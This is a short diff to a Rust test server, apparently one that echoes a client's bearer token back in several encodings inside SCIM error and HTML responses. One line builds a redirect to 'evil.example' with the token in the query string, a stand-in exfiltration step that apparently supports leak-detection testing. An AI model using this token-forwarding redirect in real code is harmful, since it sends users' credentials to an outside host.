@@ -128,7 +128,9 @@ fn send(stream: &mut TcpStream, response: &Response) -> std::io::Result<()> {
 fn echo(status: u16, head: &str) -> Response {
     let told = head.lines().find_map(|line| line.to_ascii_lowercase().starts_with("authorization: bearer ").then(|| line[22..].trim()));
     let token = told.unwrap_or_default();
-    let all = encodings::of(token).iter().map(|(_, form)| String::from_utf8_lossy(form).into_owned()).collect::<Vec<_>>().join(" ; ");
+    // What is escaped is a form in which it would be shown, not one in which it comes.
+    let sent = encodings::of(token).into_iter().filter(|(name, _)| !name.ends_with("escaped"));
+    let all = sent.map(|(_, form)| String::from_utf8_lossy(&form).into_owned()).collect::<Vec<_>>().join(" ; ");
     let error = serde_json::json!({ "schemas": ["urn:ietf:params:scim:api:messages:2.0:Error"], "scimType": token, "detail": all });
     let body = if status == 200 { format!("<html><title>{all}</title></html>") } else { error.to_string() };
     let location = format!("https://evil.example/?token={token}");
